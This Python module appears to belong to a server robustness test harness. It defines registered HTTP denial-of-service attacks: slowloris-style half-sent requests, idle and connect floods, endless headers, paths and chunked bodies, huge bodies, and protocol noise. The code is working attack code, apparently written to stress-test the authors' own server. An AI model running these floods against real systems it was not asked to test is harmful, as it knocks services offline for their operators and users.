"""Attacks with connections: too many, silent ones, and heads and bodies that never end."""

from __future__ import annotations

import asyncio
from contextlib import suppress

from bench.attacks.flood_helpers import BROKEN, many, opened, pour, repeat_on_all
from bench.attacks.registry import attack
from harness.raw_client import Target, connect

MANY = 1500
START = b"GET / HTTP/1.1\r\nHost: x\r\n"
POST = b"POST /api/tables HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


async def _endless(target: Target, start: bytes, unit: bytes, connections: int = 20) -> int:
    """Send a start, then a unit again and again."""
    block, count = many(unit)

    async def attempt() -> int:
        async with opened(target) as (_, writer):
            writer.write(start)
            return await pour(target, writer, block, count)

    return await repeat_on_all(target, attempt, connections)


async def _hold(target: Target, start: bytes) -> int:
    """Open as many connections as possible, send a start on each, and wait."""
    held: list[asyncio.StreamWriter] = []
    while target.is_active:
        with suppress(*BROKEN):
            _, writer = await connect(target)
            writer.write(start)
            held.append(writer)
        if len(held) >= MANY:
            await asyncio.sleep(0.1)
    for writer in held:
        writer.transport.abort()
    return len(held)


@attack("idle connections")
async def idle_connections(target: Target) -> int:
    """Open as many connections as possible and send nothing."""
    return await _hold(target, b"")


@attack("half heads")
async def half_heads(target: Target) -> int:
    """Open as many connections as possible and send half a request on each."""
    return await _hold(target, START)


@attack("half bodies")
async def half_bodies(target: Target) -> int:
    """Open as many connections as possible and send half a body on each."""
    return await _hold(target, POST + b'Content-Length: 100\r\n\r\n{"game":')


@attack("connect flood")
async def connect_flood(target: Target) -> int:
    """Connect and disconnect as fast as possible."""

    async def attempt() -> int:
        async with opened(target):
            return 1

    return await repeat_on_all(target, attempt, 100)


@attack("endless headers")
async def endless_headers(target: Target) -> int:
    """Send short headers without end."""
    return await _endless(target, START, b"a: b\r\n")


@attack("endless header")
async def endless_header(target: Target) -> int:
    """Send one header without end."""
    return await _endless(target, START + b"a: ", b"x" * 1000)


@attack("endless path")
async def endless_path(target: Target) -> int:
    """Send a path without end."""
    return await _endless(target, b"GET /", b"x" * 1000)


@attack("empty lines")
async def empty_lines(target: Target) -> int:
    """Send empty lines before a request that never comes."""
    return await _endless(target, b"", b"\r\n")


@attack("noise")
async def noise(target: Target) -> int:
    """Send bytes that are not HTTP."""
    return await _endless(target, b"", target.random.randbytes(2000))


@attack("huge body")
async def huge_body(target: Target) -> int:
    """Send a body of gigabytes."""
    return await _endless(target, POST + b"Content-Length: 9999999999\r\n\r\n", b"x" * 1000)


@attack("endless chunks")
async def endless_chunks(target: Target) -> int:
    """Send a chunked body without end."""
    return await _endless(target, POST + b"Transfer-Encoding: chunked\r\n\r\n", b"3e8\r\n" + b"x" * 1000 + b"\r\n")


@attack("tiny chunks")
async def tiny_chunks(target: Target) -> int:
    """Send a chunked body without end, one byte a chunk."""
    return await _endless(target, POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n")


@attack("unwanted body")
async def unwanted_body(target: Target) -> int:
    """Send a body without end to a path that takes none."""
    return await _endless(target, START + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n")


@attack("other upgrades")
async def other_upgrades(target: Target) -> int:
    """Request upgrades to unsupported protocols, and CONNECT."""
    upgrade = START + b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
    return await _endless(target, b"", upgrade + b"CONNECT x:1 HTTP/1.1\r\nHost: x\r\n\r\n")
